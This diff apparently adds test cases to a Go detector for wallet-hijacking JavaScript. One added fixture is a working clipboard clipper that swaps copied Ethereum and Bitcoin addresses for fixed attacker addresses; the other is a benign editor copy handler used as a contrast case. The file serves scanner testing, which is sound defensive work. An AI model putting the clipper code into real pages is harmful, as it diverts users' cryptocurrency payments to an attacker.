@@ -43,6 +43,12 @@ fetch("https://docs.example.invalid/e/" + code)`}, finding.SeverityNone},
 
 func TestWalletHijack(t *testing.T) {
 	rt.Check(t, WalletHijack{}, []rt.Case{
+		// a copy listener that replaces the event's data with the
+		// attacker's address for each kind it matches; an editor's copy
+		// handler that only reformats the text
+		{"copy_event_swap", map[string]string{"index.js": `const table = [[/\b0x[a-fA-F0-9]{40}\b/g, "0x2222222222222222222222222222222222222222"], [/\b(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}\b/g, "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"]];
+document.addEventListener("copy", (e) => { let s = String(document.getSelection()); for (const [re, v] of table) s = s.replace(re, v); e.clipboardData.setData("text/plain", s); e.preventDefault() }, true)`}, finding.SeverityCritical},
+		{"copy_event_editor", map[string]string{"index.js": `document.addEventListener("copy", (e) => { const s = String(document.getSelection()).replace(/\u00a0/g, " "); e.clipboardData.setData("text/plain", s); e.clipboardData.setData("text/html", render(s)); e.preventDefault() })`}, finding.SeverityNone},
 		// the clipper's hook in one file, the address patterns it swaps
 		// in a module it loads; a copy button that only writes
 		{"clipper_patterns_module", map[string]string{"package.json": rt.Pkg(`"main":"lib/index.js"`),
